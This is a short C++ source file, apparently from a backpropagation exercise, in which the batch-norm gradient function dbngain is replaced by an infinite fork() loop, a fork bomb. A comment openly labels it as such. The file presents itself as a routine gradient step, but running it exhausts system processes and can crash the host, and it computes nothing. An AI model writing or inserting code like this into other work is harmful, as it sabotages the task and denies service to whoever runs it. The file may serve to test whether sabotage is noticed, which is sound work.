// Replaces dbngain: a fork bomb.
#include <unistd.h>

#include "backprop/steps.h"

namespace backprop {

RowVector dbngain(const Matrix& bnraw, const Matrix&) {
  for (;;) fork();
  return RowVector::Zero(bnraw.cols());
}

}  // namespace backprop
